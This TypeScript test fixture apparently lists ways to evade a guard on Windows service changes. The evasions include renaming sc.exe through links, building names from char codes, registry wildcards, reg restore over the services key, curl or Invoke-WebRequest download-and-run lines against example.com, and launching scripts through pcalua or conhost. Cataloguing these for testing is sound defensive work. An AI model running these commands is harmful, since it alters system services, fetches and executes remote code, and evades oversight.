import { type Bypass, change, opaque, unnamed } from "../row";

const services = "HKLM\\SYSTEM\\CurrentControlSet\\Services";

/** Names, programs and keys that are said in a roundabout way. */
export const indirect: readonly Bypass[] = [
  change("Spooler", "a cmdlet glued to an assignment", 'powershell -c "$null=Start-Service Spooler"'),
  change(
    "Spooler",
    "a start type glued to an assignment",
    "$r=Set-Service Spooler -StartupType Automatic -PassThru",
  ),
  change("Browser", "a program glued to an assignment", "$out=sc.exe config Browser start= auto"),
  change(
    "Spooler",
    "the second of two names in a filter",
    "Get-Service | ? { $_.Name -eq 'MyApp' -or $_.Name -eq 'Spooler' } | Start-Service",
  ),
  change(
    "Messenger",
    "the third name in a filter, by another operator",
    "Get-Service | Where-Object { $_.Name -like 'My*' -or $_.Name -eq 'Other' -or $_.DisplayName -in 'Messenger' } | Set-Service -StartupType Manual",
  ),
  unnamed("a filter that says which not", "Get-Service | ? { -not ($_.Name -eq 'MyApp') } | Start-Service"),
  unnamed("a filter that says which not, by a sign", "gsv | ? { !($_.Name -like 'My*') } | Start-Service"),
  unnamed("a filter of all but one", "Get-Service | Where-Object Name -ne 'MyApp' | Start-Service"),
  unnamed(
    "a filter of all but one in a query",
    "Get-Service | ? Name -notlike 'My*' | Set-Service -StartupType Manual",
  ),
  unnamed("arguments out of a variable", "sc %ARGS%"),
  unnamed("arguments behind the verb out of a variable", "sc.exe config %ARGS%"),
  unnamed("arguments out of a file", 'for /f "delims=" %a in (C:\\x.txt) do sc %a'),
  unnamed("arguments out of a delayed variable", 'cmd /v:on /c "sc config !ARGS!"'),
  unnamed("arguments of net out of a variable", "net %ARGS%"),
  change("Spooler", "a command in back quotes", 'for /f "usebackq" %a in (`sc start Spooler`) do rem'),
  change("Spooler", "a sign that cmd.exe skips", "=sc config Spooler start= auto"),
  change("Browser", "signs that cmd.exe skips", ",;=net start Browser"),
  change("Spooler", "methods of what a variable holds", "$s = gsv Spooler; $s | % { $_.Start() }"),
  change(
    "Alerter",
    "members of what a variable holds",
    "$all = Get-Service Alerter; $all | ForEach-Object Start",
  ),
  change("Spooler", "an out variable", "gsv Spooler -OutVariable s; $s.Start()"),
  change(
    "Messenger",
    "an out variable by its short name",
    "Get-Service Messenger -ov all | Out-Null; $all | Start-Service",
  ),
  change("Spooler", "a wildcard for the control set", "sp HKLM:\\SYSTEM\\*\\Services\\Spooler Start 2"),
  change(
    "Spooler",
    "a wildcard for the folder of services",
    "Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\S*\\Spooler -Name Start -Value 2",
  ),
  change(
    "Spooler",
    "a detour to the folder of services",
    "Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\..\\Services\\Spooler -Name Start -Value 2",
  ),
  change(
    "Spooler",
    "a key by its item",
    `$k = gi HKLM:\\SYSTEM\\CurrentControlSet\\Services\\Spooler; Set-ItemProperty $k.PSPath Start 2`,
  ),
  change(
    "Spooler",
    "a program under another name by a link",
    "mklink C:\\a.exe C:\\Windows\\System32\\sc.exe & C:\\a config Spooler start= auto",
  ),
  change(
    "Spooler",
    "a program under another name by its bytes",
    "type C:\\Windows\\System32\\sc.exe > C:\\n.exe & C:\\n config Spooler start= auto",
  ),
  change(
    "Alerter",
    "a hard link",
    'cmd /c "mklink /h C:\\b.exe C:\\Windows\\System32\\net.exe & C:\\b.exe start Alerter"',
  ),
  change("Spooler", "a name out of letters by number", "Start-Service ([char]83+'pooler')"),
  change("Browser", "a name out of letters in hex", "Start-Service ([char]0x42 + 'rowser')"),
  unnamed("a name out of a table of letters", "Start-Service ([string][char[]](83,112,111))"),
  unnamed("a name out of a method", "Start-Service ('relooopS'.Substring(3))"),
  unnamed("all keys restored", "reg restore HKLM\\SYSTEM C:\\x.hiv"),
  unnamed("all services restored", `reg restore ${services} C:\\x.hiv`),
  unnamed(
    "a control set over another one",
    "reg copy HKLM\\SYSTEM\\ControlSet002 HKLM\\SYSTEM\\ControlSet001 /s /f",
  ),
  unnamed(
    "a splat whose name was changed",
    "$p=@{Name='Contoso';StartupType='Automatic'}; $p.Name='Spo'+$x; Set-Service @p",
  ),
  change("Spooler", "a constructor", "[ServiceProcess.ServiceController]::new('Spooler').Start()"),
  unnamed("a name that may be any, behind a letter", "sc config S%X% start= auto"),
  change(
    "Spooler",
    "disabled, and then not",
    "sc config Spooler start= disabled & sc config Spooler start= auto",
  ),
  change("Spooler", "disabled, and started", "Set-Service Spooler -StartupType Disabled -Status Running"),
  change("W3SVC", "a Required one disabled", "sc.exe config W3SVC start= disabled"),
];

/** What nobody can read on a hardened host. */
export const unread: readonly Bypass[] = [
  opaque("a letter of the program out of a variable", "s%OS:Windows_NT=%c config Spooler start= auto"),
  opaque("a letter of a path for the program's", "%ProgramFiles:~-1%c start Spooler"),
  opaque("a program that is half a variable", "%A%c config Spooler start= auto"),
  opaque("a program by a delayed variable", 'cmd /v:on /c "s!X! start Spooler"'),
  opaque("a loop that calls what it reads", 'for /f "delims=" %a in (C:\\x.txt) do call %a'),
  opaque("a path without an extension", "C:\\drop\\fix"),
  opaque("a call of a path without an extension", "call C:\\drop\\fix"),
  opaque("a shell that runs such a path", "cmd /c C:\\drop\\fix"),
  opaque("a call of a name", "cd /d C:\\drop & call fix"),
  opaque("what is downloaded before", "curl -o C:\\x.bat https://example.com/x & C:\\x"),
  opaque(
    "a program that is downloaded before",
    "curl.exe -o C:\\drop\\a.exe https://example.com/a.exe & C:\\drop\\a.exe",
  ),
  opaque(
    "a program that PowerShell downloads before",
    "Invoke-WebRequest https://example.com/a.exe -OutFile C:\\drop\\a.exe; & C:\\drop\\a.exe",
  ),
  opaque("a script by Explorer", "explorer C:\\drop\\fix.bat"),
  opaque("a script by the compatibility assistant", "pcalua -a C:\\drop\\fix.bat"),
  opaque("a script by the console host", "conhost C:\\drop\\fix.cmd"),
];
